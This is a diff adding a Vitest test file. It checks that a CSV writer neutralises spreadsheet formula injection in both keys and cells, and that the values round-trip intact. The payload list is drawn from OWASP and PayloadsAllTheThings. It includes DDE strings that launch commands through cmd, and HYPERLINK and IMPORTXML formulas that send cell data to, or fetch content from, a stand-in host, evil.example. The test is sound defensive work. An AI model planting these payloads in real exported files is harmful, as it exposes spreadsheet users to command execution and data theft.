@@ -1,0 +1,31 @@
+import { expect, test } from 'vitest';
+import { createCsvCutter, writeCell, writeKey } from '../src/domain/csv.ts';
+
+const stringAlone = '{"properties":{"a":{"type":"string"}}}';
+
+/** OWASP CSV Injection, and PayloadsAllTheThings: what spreadsheets run, as a value and as the name of a column. */
+test.each([
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example?x="&A1,"click")',
+  '=IMPORTXML("http://evil.example","//a")',
+  "\t=cmd|' /C calc'!A0",
+  "\r=cmd|' /C calc'!A0",
+  "\n=cmd|' /C calc'!A0",
+  '\uff1d1+1',
+  '\uff0b1+1',
+  '\uff0d1+1',
+  '\uff201+1',
+  "'=1+1",
+  "''\n=1+1",
+])('a spreadsheet runs nothing of testcases that it opens, and importing them gives back what they were: %j', (payload) => {
+  const key = writeKey(payload);
+  const cell = writeCell(JSON.stringify(payload), new Set());
+  for (const written of [key, cell]) expect(written).toMatch(/^'/);
+  const quoted = [key, cell].map((text) => `"${text.replaceAll('"', '""')}"\n`).join('');
+  const cutter = createCsvCutter(stringAlone, 10_000);
+  const entries = [...cutter.push(Buffer.from(quoted)), ...cutter.end()];
+  expect(entries.map((entry) => JSON.parse(String(entry)))).toEqual([{ [payload]: payload }]);
+});
